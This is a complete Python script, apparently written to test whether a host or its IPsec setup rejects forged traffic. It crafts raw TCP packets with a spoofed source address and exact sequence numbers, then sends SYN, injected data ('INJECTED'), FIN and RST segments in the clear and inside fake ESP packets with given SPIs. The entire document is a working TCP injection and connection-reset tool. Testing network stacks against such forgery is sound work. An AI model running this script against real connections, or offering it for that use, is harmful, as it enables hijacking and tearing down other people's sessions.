# attack.py SRC DST SPORT DPORT SEQ ACK [SPI...]: an attacker who sees the wire: sends segments with the source address SRC and
# exact sequence numbers: SYN, data, FIN and RST, first in the clear, then in ESP with these SPIs and without a valid key.
import socket, struct, sys
src, dst, sport, dport, seq, ack, spis = *sys.argv[1:3], *map(int, sys.argv[3:7]), sys.argv[7:]
S, D = socket.inet_aton(src), socket.inet_aton(dst)
def csum(b):
    b += b"\0" * (len(b) % 2)
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
def segment(flags, payload=b"", s=seq, a=ack):
    h = struct.pack("!HHIIBBHHH", sport, dport, s & 0xffffffff, a & 0xffffffff, 5 << 4, flags, 65535, 0, 0)
    c = csum(S + D + struct.pack("!BBH", 0, 6, len(h) + len(payload)) + h + payload)
    return h[:16] + struct.pack("!H", c) + h[18:] + payload
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def send(protocol, body):
    raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, S, D) + body, (dst, 0))
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
segments = [segment(SYN), segment(SYN | ACK), segment(ACK), segment(PSH | ACK, b"INJECTED\n"), segment(FIN | ACK),
            segment(RST | ACK), segment(RST), segment(RST, s=seq + 4), segment(RST, s=seq + 9), segment(SYN, s=seq + 1000000)]
for tcp in segments:
    send(6, tcp)
for spi in spis:
    for number, tcp in enumerate(segments, 100000):
        send(50, struct.pack("!II", int(spi, 16), number) + b"\0" * 8 + tcp + b"\1\2\2\6" + b"\0" * 16)
